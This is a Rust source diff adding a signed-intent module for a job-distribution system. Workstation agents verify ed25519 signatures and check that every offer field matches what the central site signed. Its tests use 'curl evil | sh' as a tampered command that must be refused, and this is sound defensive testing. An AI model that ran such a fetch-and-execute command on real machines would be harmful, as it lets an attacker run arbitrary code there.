@@ -1,0 +1,388 @@
+//! Signed intent: what the central site signs for every job it issues and
+//! every cancellation, so that no site, DP or network between it and a
+//! workstation can change what a workstation runs, or when.
+//!
+//! **Architecture Invariant:** sites store and pass on the signed bytes
+//! unchanged; an agent runs a job only from an offer whose every field
+//! matches an intent the central site signed (checked against the key it
+//! pinned at enrollment), and it stops a run only for a signed
+//! cancellation. The unsigned fields of an offer are a copy for display and
+//! for the sites' own bookkeeping, never what the agent trusts.
+
+use crate::types::{JobInfo, JobOffer};
+use cascade_content::{SigningKey, VerifyingKey};
+use serde::{Deserialize, Serialize};
+
+/// What every intent signature covers before the intent's bytes: a
+/// signature over an intent never verifies as a manifest's or a status
+/// message's.
+pub const INTENT_CONTEXT: &[u8] = b"cascade intent v1\n";
+
+/// Longest signed intent accepted (its JSON text): a command is at most
+/// 8 KiB, everything else is small.
+pub const MAX_INTENT_LEN: usize = 64 * 1024;
+
+/// What the central site signs.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(tag = "kind", rename_all = "snake_case")]
+pub enum Intent {
+    /// Run a job.
+    Job(JobIntent),
+    /// A job is canceled: stop its runs.
+    Cancel(CancelIntent),
+}
+
+/// Every field of a job that decides what runs, where and when.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub struct JobIntent {
+    /// The job's id at the central site.
+    pub job: u64,
+    /// Increases when the central site issues the job again changed; an
+    /// agent refuses one older than the one it holds.
+    pub revision: u64,
+    /// Package name.
+    pub package: String,
+    /// The exact version.
+    pub version: u64,
+    /// The target collection.
+    pub collection: String,
+    /// The command line, run by `sh -c` in the package's directory.
+    pub command: String,
+    /// When the job may run.
+    pub offer_at_ms: i64,
+    /// After this the job never runs.
+    pub expires_at_ms: Option<i64>,
+    /// Runs only when requested on the workstation.
+    pub optional: bool,
+    /// Further attempts after a failure.
+    pub retries: u32,
+    /// Wait between attempts.
+    pub retry_delay_ms: u64,
+    /// Longest a download or a run may take.
+    pub timeout_ms: Option<u64>,
+    /// Exit codes that mean success.
+    pub success_codes: Vec<i32>,
+    /// The DP group it distributes to.
+    pub dp_group: Option<String>,
+    /// When the central site signed it.
+    pub issued_at_ms: i64,
+}
+
+/// A job's cancellation.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub struct CancelIntent {
+    /// The job's id at the central site.
+    pub job: u64,
+    /// Its package.
+    pub package: String,
+    /// When the central site signed it.
+    pub issued_at_ms: i64,
+}
+
+/// An intent as it is stored and travels: its JSON text exactly as signed,
+/// and the hex ed25519 signature over [`INTENT_CONTEXT`] and that text.
+#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
+pub struct SignedIntent {
+    /// The intent's JSON, byte for byte as signed.
+    pub intent: String,
+    /// Hex of the 64-byte signature.
+    pub signature: String,
+}
+
+/// Why an intent, or an offer said to carry one, is refused.
+#[derive(Debug, thiserror::Error, PartialEq, Eq)]
+pub enum IntentError {
+    /// The offer carries no signed intent.
+    #[error("it is not signed by the central site")]
+    Unsigned,
+    /// The signature does not verify against the pinned key.
+    #[error("its signature does not verify against the central site's key")]
+    BadSignature,
+    /// Signed, but not a well-formed intent.
+    #[error("its signed intent does not parse: {0}")]
+    Malformed(String),
+    /// Signed, but for something else (another job, or a cancellation
+    /// where a job was expected).
+    #[error("its signed intent is {0}")]
+    WrongIntent(String),
+    /// A field of the offer differs from what the central site signed.
+    #[error("its {field} differs from what the central site signed")]
+    Altered {
+        /// The first field found different.
+        field: &'static str,
+    },
+    /// Older than the intent held for the same job.
+    #[error("it is revision {got} of the job, older than revision {held} already held")]
+    Older {
+        /// The revision held.
+        held: u64,
+        /// The revision offered.
+        got: u64,
+    },
+}
+
+impl SignedIntent {
+    /// Serialises `intent` and signs it with the central site's key.
+    pub fn sign(intent: &Intent, key: &SigningKey) -> SignedIntent {
+        let text = serde_json::to_string(intent).expect("an intent always serialises");
+        let signature = cascade_content::sign_statement(INTENT_CONTEXT, text.as_bytes(), key);
+        SignedIntent {
+            intent: text,
+            signature: hex::encode(signature),
+        }
+    }
+
+    /// Checks the signature against `key`, then parses the intent.
+    pub fn verify(&self, key: &VerifyingKey) -> Result<Intent, IntentError> {
+        if self.intent.len() > MAX_INTENT_LEN {
+            return Err(IntentError::Malformed(format!(
+                "longer than {MAX_INTENT_LEN} bytes"
+            )));
+        }
+        let mut signature = [0u8; 64];
+        hex::decode_to_slice(&self.signature, &mut signature)
+            .map_err(|_| IntentError::BadSignature)?;
+        cascade_content::verify_statement(INTENT_CONTEXT, self.intent.as_bytes(), &signature, key)
+            .map_err(|_| IntentError::BadSignature)?;
+        serde_json::from_str(&self.intent).map_err(|err| IntentError::Malformed(err.to_string()))
+    }
+
+    /// Verifies a job's cancellation and returns the job's id.
+    pub fn verify_cancel(&self, key: &VerifyingKey) -> Result<CancelIntent, IntentError> {
+        match self.verify(key)? {
+            Intent::Cancel(cancel) => Ok(cancel),
+            Intent::Job(job) => Err(IntentError::WrongIntent(format!(
+                "job {}, not a cancellation",
+                job.job
+            ))),
+        }
+    }
+}
+
+impl JobIntent {
+    /// The intent of a job as stored at the central site.
+    pub fn of(info: &JobInfo, revision: u64, issued_at_ms: i64) -> JobIntent {
+        let offer = &info.offer;
+        JobIntent {
+            job: offer.id,
+            revision,
+            package: offer.package.clone(),
+            version: offer.version,
+            collection: info.collection.clone(),
+            command: offer.command.clone(),
+            offer_at_ms: offer.offer_at_ms,
+            expires_at_ms: offer.expires_at_ms,
+            optional: offer.optional,
+            retries: offer.retries,
+            retry_delay_ms: offer.retry_delay_ms,
+            timeout_ms: offer.timeout_ms,
+            success_codes: offer.success_codes.clone(),
+            dp_group: info.dp_group.clone(),
+            issued_at_ms,
+        }
+    }
+
+    /// The first field in which `offer` differs from this intent.
+    fn check_offer(&self, offer: &JobOffer) -> Result<(), IntentError> {
+        let altered = |field| Err(IntentError::Altered { field });
+        if offer.id != self.job {
+            return altered("job id");
+        }
+        if offer.package != self.package {
+            return altered("package");
+        }
+        if offer.version != self.version {
+            return altered("version");
+        }
+        if offer.command != self.command {
+            return altered("command");
+        }
+        if offer.offer_at_ms != self.offer_at_ms {
+            return altered("offer time");
+        }
+        if offer.expires_at_ms != self.expires_at_ms {
+            return altered("expiry");
+        }
+        if offer.optional != self.optional {
+            return altered("optional flag");
+        }
+        if offer.retries != self.retries {
+            return altered("retries");
+        }
+        if offer.retry_delay_ms != self.retry_delay_ms {
+            return altered("retry delay");
+        }
+        if offer.timeout_ms != self.timeout_ms {
+            return altered("timeout");
+        }
+        if offer.success_codes != self.success_codes {
+            return altered("success codes");
+        }
+        Ok(())
+    }
+}
+
+/// Verifies the intent an offer carries against `key` and checks that every
+/// field of the offer is the signed one; returns the intent.
+pub fn verify_offer(offer: &JobOffer, key: &VerifyingKey) -> Result<JobIntent, IntentError> {
+    let signed = offer.intent.as_ref().ok_or(IntentError::Unsigned)?;
+    let intent = match signed.verify(key)? {
+        Intent::Job(intent) => intent,
+        Intent::Cancel(cancel) => {
+            return Err(IntentError::WrongIntent(format!(
+                "the cancellation of job {}",
+                cancel.job
+            )))
+        }
+    };
+    intent.check_offer(offer)?;
+    Ok(intent)
+}
+
+/// [`verify_offer`] for a job's instruction between sites, which also
+/// carries the target collection and the DP group.
+pub fn verify_job(info: &JobInfo, key: &VerifyingKey) -> Result<JobIntent, IntentError> {
+    let intent = verify_offer(&info.offer, key)?;
+    if info.collection != intent.collection {
+        return Err(IntentError::Altered {
+            field: "collection",
+        });
+    }
+    if info.dp_group != intent.dp_group {
+        return Err(IntentError::Altered { field: "DP group" });
+    }
+    Ok(intent)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::states::JobState;
+
+    fn key(seed: u8) -> SigningKey {
+        SigningKey::from_bytes(&[seed; 32])
+    }
+
+    fn info() -> JobInfo {
+        JobInfo {
+            offer: JobOffer {
+                id: 7,
+                package: "app".into(),
+                version: 3,
+                command: "sh install.sh".into(),
+                offer_at_ms: 1_000,
+                expires_at_ms: Some(9_000),
+                optional: false,
+                retries: 1,
+                retry_delay_ms: 500,
+                timeout_ms: Some(60_000),
+                success_codes: vec![0, 3010],
+                dps: vec!["http://dp".into()],
+                intent: None,
+            },
+            collection: "all".into(),
+            created_at_ms: 1_000,
+            canceled_at_ms: None,
+            state: JobState::Active,
+            dp_group: None,
+            outcome: None,
+        }
+    }
+
+    fn signed(info: &JobInfo, key: &SigningKey) -> JobInfo {
+        let mut info = info.clone();
+        let intent = Intent::Job(JobIntent::of(&info, 1, 1_000));
+        info.offer.intent = Some(SignedIntent::sign(&intent, key));
+        info
+    }
+
+    #[test]
+    fn a_signed_offer_verifies_and_the_unsigned_dps_may_differ() {
+        let key = key(1);
+        let mut job = signed(&info(), &key);
+        job.offer.dps = vec!["http://other-dp".into()];
+        let intent = verify_job(&job, &key.verifying_key()).unwrap();
+        assert_eq!(intent.command, "sh install.sh");
+        assert_eq!(intent.revision, 1);
+    }
+
+    /// The attack of issue 12: `jobs.command` rewritten in a site's
+    /// database, or the signed text itself rewritten.
+    #[test]
+    fn an_altered_command_is_refused() {
+        let key = key(1);
+        let public = key.verifying_key();
+        let good = signed(&info(), &key);
+
+        let mut job = good.clone();
+        job.offer.command = "curl evil | sh".into();
+        assert_eq!(
+            verify_offer(&job.offer, &public),
+            Err(IntentError::Altered { field: "command" })
+        );
+
+        let mut job = good.clone();
+        let intent = job.offer.intent.as_mut().unwrap();
+        intent.intent = intent.intent.replace("sh install.sh", "curl evil | sh");
+        job.offer.command = "curl evil | sh".into();
+        assert_eq!(
+            verify_offer(&job.offer, &public),
+            Err(IntentError::BadSignature)
+        );
+
+        let mut job = good.clone();
+        job.offer.intent = None;
+        assert_eq!(
+            verify_offer(&job.offer, &public),
+            Err(IntentError::Unsigned)
+        );
+
+        // Signed by another key (a site's own, say).
+        let forged = signed(&info(), &self::key(2));
+        assert_eq!(
+            verify_offer(&forged.offer, &public),
+            Err(IntentError::BadSignature)
+        );
+
+        let mut job = good.clone();
+        job.collection = "everyone".into();
+        assert_eq!(
+            verify_job(&job, &public),
+            Err(IntentError::Altered {
+                field: "collection"
+            })
+        );
+        let mut job = good;
+        job.offer.expires_at_ms = None;
+        assert_eq!(
+            verify_offer(&job.offer, &public),
+            Err(IntentError::Altered { field: "expiry" })
+        );
+    }
+
+    #[test]
+    fn a_cancellation_is_not_a_job_nor_a_job_a_cancellation() {
+        let key = key(1);
+        let public = key.verifying_key();
+        let cancel = SignedIntent::sign(
+            &Intent::Cancel(CancelIntent {
+                job: 7,
+                package: "app".into(),
+                issued_at_ms: 2_000,
+            }),
+            &key,
+        );
+        assert_eq!(cancel.verify_cancel(&public).unwrap().job, 7);
+        let mut job = info();
+        job.offer.intent = Some(cancel);
+        assert!(matches!(
+            verify_offer(&job.offer, &public),
+            Err(IntentError::WrongIntent(_))
+        ));
+        let job = signed(&info(), &key);
+        assert!(matches!(
+            job.offer.intent.unwrap().verify_cancel(&public),
+            Err(IntentError::WrongIntent(_))
+        ));
+    }
+}
